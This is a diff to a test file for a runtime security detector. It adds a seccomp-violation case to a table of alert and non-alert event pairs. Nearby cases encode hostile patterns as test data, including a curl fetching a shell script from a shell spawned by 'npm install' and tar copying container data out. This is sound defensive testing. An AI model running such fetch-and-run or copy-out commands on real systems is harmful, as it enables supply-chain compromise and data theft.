@@ -148,6 +148,8 @@ const CASES: [string, TrackerEvent, TrackerEvent][] = [
   ['writable_dir_in_path', exec('ls', ['ls'], { path_env: '.:/usr/bin:/bin' }), exec('ls', ['ls'], { path_env: '/usr/local/bin:/usr/bin:/bin' })],
   // kubectl cp (the runtime starts tar, its parent outside); tar in a shell of the container
   ['container_files_copied_out', exec('tar', ['tar', 'cf', '-', '/data'], { vppid: 0, vpid: 40 }), exec('tar', ['tar', 'cf', '-', '/data'], { vppid: 12, vpid: 40 })],
+  // seccomplog reports only what is outside the profile: any report alerts; another tracker's event of the same shape does not
+  ['seccomp_profile_violation', ev('seccomplog', { comm: 'unshare', outside: 'syscall', syscall: 'unshare' }), ev('secsnoop', { comm: 'unshare', outside: 'syscall', syscall: 'unshare' })],
   ['network_tool_from_package_install', exec('curl', ['curl', '-sL', 'http://x/s.sh'], { pcomm: 'sh', gpcomm: 'npm install' }, host), exec('curl', ['curl', '-sL', 'http://x/s.sh'], { pcomm: 'sh', gpcomm: 'make' }, host)],
 ];
 
